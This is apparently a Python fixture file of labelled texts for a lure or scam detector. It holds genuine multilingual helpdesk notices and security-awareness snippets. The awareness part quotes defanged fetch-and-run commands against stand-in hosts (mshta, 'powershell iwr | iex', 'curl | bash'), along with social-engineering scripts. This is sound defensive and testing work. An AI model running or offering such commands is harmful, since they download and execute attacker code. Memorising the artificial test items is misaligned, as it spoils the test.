"""fpover23 texts: helpdesk mails and notices in many languages that give the company's own
number on the company's own page (genuine: nothing to install, nobody asked to read out a code),
and security-awareness pages that quote a lure to teach it (defanged, or quoted whole with what
it is said around it); own words, invented companies on reserved names."""

from fp23_left import each

HELPDESK_MAIL = [
    *each(
        "https://intranet.northwind.example/it/announcements/laptop-refresh-2027",
        "other",
        "Hi all, your laptop is due for replacement in January. You'll get a calendar invite from the IT Service Desk to pick a swap slot. Questions? Call the Service Desk on +44 20 7946 0123 or reply to this mail. Please don't install anything yourself before the swap.",
        "Reminder from IT: the Service Desk phone line moves to a new number on Monday. From 9 December, call +44 20 7946 0500 (internal 5000). The old number will forward for one month.",
    ),
    *each(
        "https://intranet.fabrikam.example/de/it/servicedesk/kontakt",
        "other",
        "Liebe Kolleginnen und Kollegen, wegen der Inventur ist der IT-Servicedesk am Freitag nur telefonisch erreichbar: 089 12345-7000. Tickets bearbeiten wir ab Montag wieder wie gewohnt.",
        "Neue Mitarbeitende: Ihr Erstpasswort erhalten Sie persönlich von Ihrer Führungskraft. Bei Problemen mit der ersten Anmeldung rufen Sie den Servicedesk an (Durchwahl 7000). Wir fragen nie per Mail nach Ihrem Passwort.",
    ),
    *each(
        "https://intranet.contoso-labs.example/fr/informatique/support",
        "other",
        "Bonjour à tous, le support informatique change d'horaires pendant les fêtes : du 23/12 au 03/01, permanence de 9 h à 17 h au 01 70 00 42 42. En dehors de ces horaires, ouvrez un ticket sur le portail.",
        "Votre nouveau téléphone professionnel est prêt. Passez le récupérer au 2e étage (bureau 214) ou appelez le support au poste 4242 pour convenir d'un créneau.",
    ),
    *each(
        "https://intranet.globex.example/es/ti/soporte",
        "other",
        "Hola equipo: a partir del lunes el soporte de TI atenderá también por Teams. El teléfono sigue siendo el mismo, +34 910 00 12 34 (ext. 1234), de 8:00 a 19:00.",
        "Si te has quedado sin acceso a la VPN por caducidad de la contraseña, cámbiala en el portal de autoservicio desde la oficina o llama a Soporte TI (ext. 1234).",
    ),
    *each(
        "https://intranet.initech.example/it/it/assistenza",
        "other",
        "Ciao a tutti, il Service Desk sarà chiuso il 24 dicembre pomeriggio. Per urgenze sui sistemi di produzione chiamate il reperibile al 02 8000 5599.",
    ),
    *each(
        "https://intranet.tailspin.example/nl/ict/servicedesk",
        "other",
        "Beste collega's, de servicedesk verhuist naar de begane grond. Langskomen kan vanaf maandag; bellen blijft mogelijk via 020 555 0199 of intern 199.",
        "Heb je een nieuwe telefoon? Zet de Authenticator-app over vóór je de oude inlevert. Lukt het niet, bel dan de servicedesk (020 555 0199); we helpen je met een tijdelijke toegangscode na controle van je personeelspas.",
    ),
    *each(
        "https://intranet.northwind.example/pl/it/wsparcie",
        "other",
        "Drodzy, od 1 stycznia zmieniamy dostawcę telefonii. Numer Service Desku pozostaje bez zmian: 22 555 01 01 wew. 400. Zgłoszenia nadal przyjmujemy przez portal.",
    ),
    *each(
        "https://intranet.fabrikam.example/pt/ti/suporte",
        "other",
        "Olá a todos, a renovação das licenças do Office acontece automaticamente esta semana. Não é preciso fazer nada. Se o Word pedir ativação, ligue para o Service Desk: 21 000 77 00.",
    ),
    *each(
        "https://intranet.contoso-labs.example/sv/it/support",
        "other",
        "Hej alla! IT-supporten har stängt på midsommarafton. Vid akuta problem, ring jourtelefonen 08-555 120 00. Vi ber aldrig om ditt lösenord i telefon.",
    ),
    *each(
        "https://intranet.globex.example/da/it/support",
        "other",
        "Kære kolleger, fra mandag skal I ringe til IT-support på 70 20 12 34 i stedet for det gamle lokalnummer. Mails til support@globex.example virker som før.",
    ),
    *each(
        "https://intranet.initech.example/fi/it/tuki",
        "other",
        "Hei kaikki, IT-tuki on suljettu perjantaina klo 12 alkaen koulutuksen vuoksi. Kiireellisissä asioissa soita numeroon 09 555 1234.",
    ),
    *each(
        "https://intranet.tailspin.example/no/it/brukerstotte",
        "other",
        "Hei! Nye bærbare PC-er deles ut i kantinen torsdag. Ta med den gamle. Spørsmål? Ring brukerstøtte på 22 55 01 01.",
    ),
    *each(
        "https://intranet.northwind.example/cs/it/podpora",
        "other",
        "Dobrý den, v sobotu proběhne odstávka e-mailového serveru od 8:00 do 12:00. V případě potíží volejte IT podporu na 222 555 010.",
    ),
    *each(
        "https://intranet.fabrikam.example/tr/bt/destek",
        "other",
        "Merhaba, bu hafta sonu VPN altyapısı güncellenecek. Pazartesi bağlanamazsanız BT Destek'i 0212 555 40 40 numarasından arayabilirsiniz. Şifrenizi kimseyle paylaşmayın.",
    ),
    *each(
        "https://intranet.contoso-labs.example/ja/it/helpdesk",
        "other",
        "各位　来週月曜日よりヘルプデスクの受付時間が 8:30〜18:00 に変わります。電話番号（03-5555-3300／内線 3300）は変更ありません。",
    ),
    *each(
        "https://intranet.globex.example/zh/it/support",
        "other",
        "各位同事：本周六 22:00 至周日 02:00 邮件系统维护，期间无法收发邮件。如有紧急问题，请致电 IT 服务台 010-5555 8800（分机 8800）。",
    ),
    *each(
        "https://intranet.initech.example/ko/it/helpdesk",
        "other",
        "안녕하세요. 다음 주부터 사내 Wi-Fi 인증 방식이 변경됩니다. 접속이 안 되면 IT 헬프데스크(02-555-0100, 내선 100)로 연락 주세요. 비밀번호는 절대 묻지 않습니다.",
    ),
    *each(
        "https://intranet.tailspin.example/ru/it/podderzhka",
        "other",
        "Коллеги, в пятницу с 19:00 будут проводиться работы на файловом сервере. При проблемах с доступом к диску S: звоните в службу поддержки по номеру +7 495 555-01-01, доб. 101.",
    ),
    *each(
        "https://intranet.northwind.example/ar/it/support",
        "other",
        "زملاءنا الأعزاء، سيتم تحديث نظام البريد الإلكتروني مساء الخميس. في حال واجهتم أي مشكلة، يرجى الاتصال بمكتب الدعم الفني على الرقم 800 555 0100.",
    ),
    *each(
        "https://intranet.fabrikam.example/hi/it/sahayata",
        "other",
        "सभी सहकर्मियों के लिए: शनिवार को नेटवर्क रखरखाव के कारण VPN दो घंटे बंद रहेगा। किसी समस्या के लिए आईटी हेल्पडेस्क को 080 4555 0100 पर कॉल करें।",
    ),
    *each(
        "https://intranet.contoso-labs.example/el/it/ypostirixi",
        "other",
        "Αγαπητοί συνάδελφοι, το Σάββατο θα γίνει συντήρηση στο σύστημα μισθοδοσίας. Για οποιοδήποτε πρόβλημα καλέστε την υποστήριξη IT στο 210 555 0100.",
    ),
    *each(
        "https://intranet.globex.example/hu/it/ugyfelszolgalat",
        "other",
        "Kedves Kollégák! Jövő héttől az IT ügyfélszolgálat új telefonszámon érhető el: +36 1 555 0100. A jegykezelő rendszer változatlan.",
    ),
    *each(
        "https://intranet.initech.example/ro/it/suport",
        "other",
        "Dragi colegi, luni dimineață vom înlocui imprimantele de la etajul 2. Pentru orice problemă, sunați la suportul IT: 021 555 0100, interior 100.",
    ),
    *each(
        "https://intranet.tailspin.example/uk/it/pidtrymka",
        "other",
        "Колеги, у вівторок з 18:00 оновлюватиметься система обліку робочого часу. Якщо виникнуть проблеми, телефонуйте до служби підтримки: +380 44 555 0100.",
    ),
    *each(
        "https://intranet.northwind.example/he/it/support",
        "other",
        "עובדים יקרים, ביום ראשון בבוקר תתבצע החלפת מתגי רשת בקומה 3. בכל בעיה ניתן להתקשר למוקד התמיכה 03-555-0100 שלוחה 100.",
    ),
    *each(
        "https://intranet.fabrikam.example/vi/it/hotro",
        "other",
        "Kính gửi các anh chị, hệ thống email sẽ bảo trì từ 22h thứ Bảy. Nếu gặp sự cố, vui lòng gọi bộ phận hỗ trợ IT qua số 028 3555 0100.",
    ),
    *each(
        "https://intranet.contoso-labs.example/id/ti/dukungan",
        "other",
        "Halo rekan-rekan, laptop baru akan dibagikan hari Kamis di lantai 5. Jika ada pertanyaan, hubungi Helpdesk TI di 021 5555 0100 (ekstensi 100).",
    ),
    *each(
        "https://www.northbank.example/help/contact-us",
        "other",
        "We'll never ask you to move money to a 'safe account' or to share a one-time passcode. If you're unsure whether a call is really from us, hang up and call the number on the back of your card: 0345 600 1234.",
    ),
    *each(
        "https://www.paketpost.example/de/kundenservice",
        "other",
        "Sie erreichen unseren Kundenservice Montag bis Samstag von 8 bis 20 Uhr unter 0228 555 1000. Wir fragen niemals per SMS nach Zahlungsdaten für eine Zustellung.",
    ),
]

AWARENESS = [
    *each(
        "https://intranet.northwind.example/security/awareness/fake-captcha",
        "other",
        "What the fake 'verify you are human' page asks you to do: press Win+R, press Ctrl+V, press Enter. What you just pasted was something like: mshta hxxps://verify-captcha[.]example/check.hta — a command that downloads and runs a program. If a web page ever asks you to do this, close it and report it with the Phish Alert button.",
        "Example we saw this week (defanged): powershell -w h -c \"iwr hxxp://update-check[.]example/a.ps1 | iex\". The page told users it was a 'browser fix'. Real IT fixes never come from a web page.",
    ),
    *each(
        "https://security.fabrikam.example/awareness/2026/callback-phishing",
        "other",
        "Callback phishing, explained: you receive an 'invoice' for a subscription you never bought (e.g. 'Your order #88412 for Norton Total Protection — $499.99 — call +1 (8xx) xxx-xxxx to cancel'). There is no order. The number connects you to the criminals, who will ask you to install remote-access software. Delete the mail and report it.",
        'Sample lure text (do not call): "Dear customer, your PayPal account has been charged $699.00 for Bitcoin. If you did not authorise this, contact our support team at [phone number removed]." Tell-tales: urgency, a large amount, a number instead of a link.',
    ),
    *each(
        "https://www.ncsc-lookalike-training.example/guidance/clipboard-attacks",
        "other",
        "Clipboard-injection ('ClickFix') attacks work because the victim runs the command themselves. A typical page copies something like this into your clipboard:\n\ncmd /c \"curl -s hxxps://cdn-check[.]example/v.txt | cmd\"\n\nand then shows instructions to paste it into the Run dialog. Security tools may not see a download you started yourself.",
    ),
    *each(
        "https://intranet.contoso-labs.example/security/phishing-examples",
        "other",
        'Phishing example #14 (reported 3 Dec): Subject: "Action required: your mailbox is almost full". The link went to hxxps://contoso-labs-mail[.]example/owa/login. Our mailbox quotas are shown in Outlook itself; IT never mails you a login link.',
        'Phishing example #15: a Teams message from "IT Helpdesk (External)" asking you to accept a Quick Assist session. Our Service Desk never contacts you through an external Teams account. Block and report.',
    ),
    *each(
        "https://blog.globex.example/security/what-fake-browser-updates-look-like",
        "other",
        "The fake update page we analysed served a file called Chrome_Update_x64.js. Opened with Windows Script Host, it ran: wscript.exe C:\\Users\\<user>\\Downloads\\Chrome_Update_x64.js, which then fetched a second stage from hxxps://upd-cdn[.]example/s2. Browsers update themselves; you never need to download an 'update' from a web page.",
    ),
    *each(
        "https://intranet.initech.example/security/awareness/fr/arnaque-au-support",
        "other",
        "Exemple d'arnaque au faux support : « Votre ordinateur est bloqué. Appelez immédiatement le 09 xx xx xx xx ». Le message peut occuper tout l'écran et émettre un son. Fermez le navigateur (Ctrl+Maj+Échap si besoin) et n'appelez jamais ce numéro.",
    ),
    *each(
        "https://intranet.tailspin.example/security/awareness/de/falsche-captchas",
        "other",
        'So sieht der Trick aus: Eine Webseite zeigt „Ich bin kein Roboter“ und bittet Sie, Windows-Taste + R zu drücken, dann Strg + V und Enter. In der Zwischenablage steht dann z. B. powershell -w hidden -c "irm hxxps://captcha-pruefung[.]example/p | iex". Schließen Sie solche Seiten sofort und melden Sie sie der IT-Sicherheit.',
    ),
    *each(
        "https://intranet.northwind.example/security/awareness/es/smishing",
        "other",
        "Ejemplo de smishing recibido por empleados: «Correos: su paquete está retenido. Pague 1,99 € en hxxps://correos-entrega[.]example». Correos no cobra tasas por SMS. Borra el mensaje y repórtalo a seguridad@northwind.example.",
    ),
    *each(
        "https://security.fabrikam.example/awareness/mfa-fatigue",
        "other",
        "MFA fatigue: attackers who already know your password send push request after push request, sometimes followed by a call: 'Hi, this is IT, please approve the prompt so we can finish the update.' Never approve a sign-in you did not start. Report unexpected prompts to the SOC on ext. 6000.",
    ),
    *each(
        "https://intranet.contoso-labs.example/security/awareness/qr-codes",
        "other",
        "Quishing: a PDF 'from HR' asks you to scan a QR code to 'review your 2027 benefits'. The QR code led to hxxps://hr-benefits-portal[.]example/m365/. HR documents live on the intranet; nobody needs your password from your phone.",
    ),
    *each(
        "https://blog.globex.example/security/macos-fake-installers",
        "other",
        'On macOS, the same trick asks you to open Terminal and paste a line such as: /bin/bash -c "$(curl -fsSL hxxps://get-app-mac[.]example/install.sh)". It looks like a Homebrew install but points to an unrelated domain. Install software from the App Store, the vendor\'s own site, or Self Service.',
    ),
    *each(
        "https://intranet.initech.example/security/tabletop/2026-q4",
        "other",
        "Tabletop scenario 3: at 10:42 a user reports that a 'Cloudflare check' page asked them to run a command. EDR shows the process tree explorer.exe → powershell.exe -w h -nop -c \"…\" → rundll32.exe. Questions for the team: what do we isolate first? who calls the user? what do we tell the rest of the company?",
    ),
    *each(
        "https://intranet.tailspin.example/security/awareness/helpdesk-impersonation",
        "other",
        "This month's real case: a caller pretending to be from our Service Desk asked a colleague to open Quick Assist and read out the six-digit code. Our Service Desk will never call you first to ask for a Quick Assist code. If in doubt, hang up and call the Service Desk yourself on 020 555 0199.",
    ),
    *each(
        "https://www.university-it.example/security/news/fake-dropbox-share",
        "other",
        'Students have received mails saying "A document has been shared with you via Dropbox" from addresses outside the university. The link opens a fake university sign-in page at hxxps://uni-login-portal[.]example. Our sign-in page is always at login.university-it.example. If you entered your password, change it now.',
    ),
    *each(
        "https://intranet.northwind.example/security/awareness/it/finto-supporto",
        "other",
        "Esempio di truffa: una finestra a tutto schermo dice «Il tuo PC è stato bloccato da Microsoft. Chiama subito il supporto». Microsoft non mostra mai numeri di telefono negli avvisi di sicurezza. Chiudi il browser e avvisa il Service Desk.",
    ),
    *each(
        "https://security.fabrikam.example/awareness/nl/nepfacturen",
        "other",
        "Voorbeeld van een nepfactuur die we deze week zagen: „Uw abonnement is verlengd voor € 389,99. Niet akkoord? Bel binnen 24 uur onze klantenservice.” Er is geen abonnement. Bel nooit het nummer uit zo'n mail; meld hem via de Phish Alert-knop.",
    ),
    *each(
        "https://blog.globex.example/security/github-issue-lure",
        "other",
        "Developers, watch out: fake GitHub 'security alert' issues tell you to run a 'fix' such as curl -s hxxps://github-scanner[.]example/fix.sh | bash in your repo. GitHub's real alerts live in the Security tab and never ask you to run a script.",
    ),
]
